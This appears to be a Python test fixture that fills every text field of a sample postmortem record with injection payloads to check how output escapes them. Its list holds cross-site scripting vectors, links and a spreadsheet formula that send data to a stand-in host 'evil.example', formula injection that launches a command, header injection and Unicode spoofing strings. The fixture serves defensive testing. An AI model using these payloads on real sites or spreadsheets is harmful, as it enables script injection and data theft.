"""Text that would like to act, put into every text of a record."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Sequence
from typing import Any, cast

from tests.document.incident import postmortem
from tests.document.page import words

from afteraction.document.shape import PostmortemJson

PAYLOADS = [
    "<script>alert(1)</script>", "</script><script>alert(2)</script>", "</SCRIPT ><img src=x onerror=alert(3)>",
    "<img src=x onerror=alert(4)>", '"><img src=x onerror=alert(5)>', "' onmouseover='alert(6)", '" autofocus onfocus="alert(7)',
    "<svg onload=alert(8)>", "<svg><script>alert(9)</script></svg>", "<svg><a xlink:href='javascript:alert(10)'>x</a></svg>",
    "<math><mi xlink:href='javascript:alert(11)'>x</mi></math>", "<iframe srcdoc='<script>alert(12)</script>'></iframe>",
    "<iframe src=javascript:alert(13)>", "<object data=javascript:alert(14)>", "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example';*{display:none}</style>",
    "</style><style>body{display:none}", "</title><script>alert(15)</script>", "</textarea><script>alert(16)</script>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input type=submit>", "<a href='javascript:alert(17)'>x</a>", "javascript:alert(18)",
    "[click](javascript:alert(19))", "![x](https://evil.example/pixel.gif)", "<https://evil.example/>", "[a]: https://evil.example",
    "<!--", "--><script>alert(20)</script>", "<!--<script>", "]]><script>alert(21)</script>", "<?php echo 1 ?>",
    "{{7*7}}", "{% raw %}", "${alert(22)}", "&lt;script&gt;alert(23)&lt;/script&gt;", "&#x3c;script&#x3e;",
    "\u003cscript\u003ealert(24)", "\u2028alert(25)//", "<details open ontoggle=alert(26)>", "<template><script>alert(27)</script>",
    "\u202egnp.exe", "\u2066\u2069hidden\u200b\u200d\u2060\ufeff", "\x1b]52;c;ZXZpbA==\x07\x1b[31mred", "\x9b31m", "\x00\x08\x7f",
    "\ud800 lone", "\U000e0041\U000e0042", "=HYPERLINK(\"https://evil.example\")", "+cmd|' /C calc'!A0", "@SUM(1+1)",
    "<noscript><p title='</noscript><img src=x onerror=alert(28)>'>", "<xmp><script>alert(29)</script>", "<plaintext>",
    # pictures and formulas that hold more than they show
    "<svg><foreignObject><img src=x onerror=alert(31)></foreignObject></svg>", "<svg><animate onbegin=alert(32) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(33)>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(34)/>#x'/>",
    "<math><annotation-xml encoding='text/html'><script>alert(35)</script></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(36)>x</maction></math>",
    # text that becomes markup only when it is parsed for the second time
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(37)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(38)>", "<svg></p><style><a id='</style><img src=1 onerror=alert(39)>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(40)>'>", "<table><td><svg><desc><td><img src=x onerror=alert(41)>",
    "<noembed><img title='</noembed><img src=x onerror=alert(42)>'>", "<listing>&lt;img src=x onerror=alert(43)&gt;</listing>",
    # addresses
    "vbscript:msgbox(44)", "java\tscript:alert(45)", "\x01javascript:alert(46)", "jAvAsCrIpT&colon;alert(47)", "data:text/html;base64,PHNjcmlwdD4=",
    "view-source:https://evil.example", "//evil.example/x", "https://good.example@evil.example/",
    # ways out of an attribute, a style, the data block
    '" onclick=alert(48) x="', "' style='position:fixed;inset:0;background:red", "`onerror=alert(49)", '"/><script>alert(50)</script>', 'x" id="main" data-ref="r-x',
    "<form name=getElementById><input name=body>", "<a id=main><a id=main name=children>", "x;background:url(//evil.example/a)", "expression(alert(51))",
    "\\3c style>*{color:red}", "</style\n>", "</script\n>", "</ScRiPt/x>", "]});alert(52)//", '"}}};alert(53)//', "\\u003c/script>", "\u2029alert(54)//", "__proto__", "constructor",
    # cells of a sheet
    "=1+1", "-2+3", "\t=1+1", "\r=1+1", "\uff1d1+1", "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    # letters that hide, pretend or pile up
    "p\u0430yments-api", "\u0391dmin", "\u061c\u180e\u00ad\ufff9\ufffb", "\U0001d173\u115f\u2800\u3164", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308", "\u202dabc\u202c\u2067def\u2069",
    "\u05d0\u05d1\u05d2 right to left \u0627\u0644", "\u200b" * 40,
    "\r\nSet-Cookie: a=b", "a" * 250, "e" + "\u0301" * 30, "<a href=data:text/html,<script>alert(30)</script>>",
]  # fmt: skip
KEPT = words(
    "id ref record evidence stream thread kind time precision_s start status window first last permalink name artifact"
)


def over(value: Any, change: Callable[[str], str], kept: frozenset[str], key: str = "") -> Any:
    """The value with every text changed that does not stand under a kept key."""
    if isinstance(value, str):
        return value if key in kept else change(value)
    if isinstance(value, dict):
        return {one: over(item, change, kept, one) for one, item in value.items()}
    if isinstance(value, list | tuple):
        return [over(item, change, kept, key) for item in value]
    return value


def dealt(payloads: Sequence[str], first: int) -> tuple[PostmortemJson, list[str]]:
    """The record with another payload in every text, and those that were used. first: the number of the first one."""
    turn = itertools.count(first)
    used: list[str] = []

    def one(text: str) -> str:
        if text:
            used.append(payloads[next(turn) % len(payloads)])
        return used[-1] if text else ""

    return cast(PostmortemJson, over(postmortem(), one, KEPT)), used


def poisoned(payload: str) -> PostmortemJson:
    return cast(PostmortemJson, over(postmortem(), lambda text: payload if text else "", KEPT))
